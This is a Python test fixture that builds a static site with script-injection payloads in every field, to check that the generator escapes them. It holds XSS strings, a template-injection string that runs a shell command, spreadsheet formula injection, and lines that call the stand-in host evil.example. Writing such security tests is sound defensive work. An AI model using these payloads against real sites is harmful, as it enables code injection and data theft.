"""Script-injection payloads and a site that carries them in every text field (issue 6).

Every payload that could run sets a `window.__xss…` global and/or calls alert(); those
that could load something point at evil.example. The test opens every page and checks
that none of it happened and that the text reads exactly as written.
"""

from __future__ import annotations

import json
from datetime import date, timedelta
from pathlib import Path

# Front-matter text fields (titles, names, aliases, roles, quotes, site settings): they
# must show exactly as written.
TEXT_PAYLOADS = [
    "<script>window.__xss_t1=1;alert('t1')</script>",
    '"><img src=x onerror="window.__xss_t2=1;alert(\'t2\')">',
    "' onmouseover='window.__xss_t3=1' autofocus onfocus='window.__xss_t3=1' x='",
    '" autofocus onfocus="window.__xss_t4=1;alert(\'t4\')" x="',
    "<svg/onload=window.__xss_t5=1;alert('t5')>",
    "javascript:window.__xss_t6=1;alert('t6')",
    "data:text/html,<script>window.__xss_t7=1</script>",
    "{{ 7*7 }}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% for x in range(3) %}loop{% endfor %}",
    "</title><script>window.__xss_t12=1;alert('t12')</script>",
    "</script><script>window.__xss_t13=1;alert('t13')</script>",
    '{"@context": "</script><script>window.__xss_t14=1</script>"}',
    "<!-- an unclosed comment",
    "]]><script>window.__xss_t16=1</script><![CDATA[",
    '<iframe src="http://evil.example/frame"></iframe>',
    '<img src="http://evil.example/pixel.png">',
    "<style>body{background:url(http://evil.example/css.png)}</style>",
    '<base href="http://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "&lt;script&gt;alert('t22')&lt;/script&gt; &amp; &#60;b&#62;",
    "line\u2028separator\u2029and </script> in JSON",
    '<a href="javascript:window.__xss_t24=1">click</a>',
    "[click me](javascript:window.__xss_t25=1)",
    "${window.__xss_t26=1} `${alert('t26')}`",
    '<form action="http://evil.example/"><button>go</button></form>',
    '<object data="http://evil.example/x.swf"></object>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss_t29=1>",
    '\\"; window.__xss_t30=1; //',
    '<noscript><p title="</noscript><img src=x onerror=window.__xss_t31=1>">',
    "Ünïcödé — “quotes” ‘too’ & ampersands < less > greater",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0\r\nSUMMARY:injected line",
]

# Markdown bodies: (source, text that must be visible, or None when Markdown legitimately
# turns it into something else, such as a link).
BODY_PAYLOADS = [
    ("<script>window.__xss_b1=1;alert('b1')</script>", None),
    ('<div onclick="window.__xss_b2=1">raw html</div>', None),
    ("<img src=x onerror=window.__xss_b3=1>", None),
    ("[click](javascript:window.__xss_b4=1)", None),
    ("[click](JaVaScRiPt:window.__xss_b5=1)", None),
    ("[click](&#106;avascript:window.__xss_b6=1)", "[click](javascript:window.__xss_b6=1)"),
    ("[ref link][r]\n\n[r]: javascript:window.__xss_b7=1", None),
    ("<javascript:window.__xss_b8=1>", None),
    ("![image](javascript:window.__xss_b9=1)", None),
    ('![image](x" onerror="window.__xss_b10=1)', None),
    ("[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3NfYjExPTE8L3NjcmlwdD4=)", None),
    ("![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)", None),
    ("![tracking pixel](http://evil.example/pixel.png)", "tracking pixel"),
    ("![protocol relative](//evil.example/pixel.png)", "protocol relative"),
    ("{{ 7*7 }} and {% raw %} and {# comment #}", None),
    ("</script><script>window.__xss_b16=1</script>", None),
    ('<iframe src="http://evil.example/"></iframe>', None),
    ("<style>@import url(http://evil.example/x.css);</style>", None),
    ("&#x3C;script&#x3E;alert('b19')&#x3C;/script&#x3E;", "<script>alert('b19')</script>"),
    ("[fine link](https://example.org/ok) stays a link", "fine link stays a link"),
]
BODY_PAYLOADS = [(source, source if shown is None else shown) for source, shown in BODY_PAYLOADS]

SITE_TITLE = 'Briefing <script>window.__xss_site=1</script> & "{{ 7*7 }}"'
SEED_ID = "hostile-article"
SEED_URL = "https://example.org/article?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E&x=\"'<>"


def q(value) -> str:
    """A YAML scalar for any text: JSON's quoted strings are valid YAML."""
    return json.dumps(value)


def write_hostile_site(root: Path, benign: bool = False) -> dict[str, tuple[str, list[str]]]:
    """Write the site; return what each page must show. benign=True swaps every payload
    for plain words, giving a control build of the same shape."""
    texts = [f"Plain text {i}" for i in range(len(TEXT_PAYLOADS))] if benign else TEXT_PAYLOADS
    bodies = (
        [f"Plain body {i}." for i in range(len(BODY_PAYLOADS))]
        if benign
        else [source for source, _ in BODY_PAYLOADS]
    )
    site_title = "Plain briefing" if benign else SITE_TITLE
    n, m = len(texts), len(bodies)
    files = {
        "site.yaml": (
            f"title: {q(site_title)}\ndescription: {q(texts[1])}\nauthor: {q(texts[2])}\n"
            f"license: {q(texts[3])}\nbase_url: /\n"
        ),
        f"seeds/{SEED_ID}.md": (
            f"---\ntitle: {q(texts[4])}\npublished: 2025-04-30\nsource: {q(texts[5])}\n"
            f"url: {q(SEED_URL)}\nlicense: {q(texts[6])}\n---\n" + "\n".join(texts) + "\n"
        ),
        "content/index.md": f"---\ntitle: {q(texts[7])}\n---\n" + "\n\n".join(bodies) + "\n",
        "content/about.md": f"---\ntitle: {q(texts[8])}\n---\n" + "\n\n".join(bodies) + "\n",
    }
    shown = [shown for _, shown in BODY_PAYLOADS] if not benign else bodies
    # Page → (its h1, texts that must be visible on it), all exactly as written.
    expect: dict[str, tuple[str, list[str]]] = {
        "index.html": (texts[7], [site_title, *shown]),
        "about/index.html": (texts[8], [site_title, *shown]),
        f"sources/{SEED_ID}/index.html": (texts[4], [texts[5], texts[6], *texts]),
    }
    first = date(2025, 3, 1)
    for i, text in enumerate(texts):
        kind = ("person", "organization", "state")[i % 3]
        files[f"content/actors/actor-{i}.md"] = (
            f"---\nname: {q(text)}\naliases: [{q(texts[(i + 1) % n])}]\nkind: {kind}\n"
            f"role: {q(texts[(i + 2) % n])}\n---\n{bodies[i % m]}\n"
        )
        files[f"content/locations/place-{i}.md"] = (
            f"---\nname: {q(text)}\naliases: [{q(texts[(i + 3) % n])}]\nkind: city\n"
            f"country: CH\ncoordinates: [46.2, 6.1]\n---\n{bodies[(i + 1) % m]}\n"
        )
        day = first + timedelta(days=i)
        files[f"content/events/{day}-event-{i}.md"] = (
            f"---\ntitle: {q(text)}\ndate: {day}\nkind: talks\n"
            f"actors: [actor-{i}, actor-{(i + 1) % n}]\nlocations: [place-{i}]\n"
            f"sources:\n  - seed: {SEED_ID}\n    quote: {q(text)}\nstatus: reviewed\n---\n"
            f"{bodies[(i + 2) % m]}\n"
        )
        expect[f"actors/actor-{i}/index.html"] = (
            text,
            [texts[(i + 1) % n], texts[(i + 2) % n], shown[i % m]],
        )
        expect[f"locations/place-{i}/index.html"] = (text, [texts[(i + 3) % n], shown[(i + 1) % m]])
        expect[f"events/{day}-event-{i}/index.html"] = (text, [shown[(i + 2) % m], texts[4]])
    for name, text in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return expect
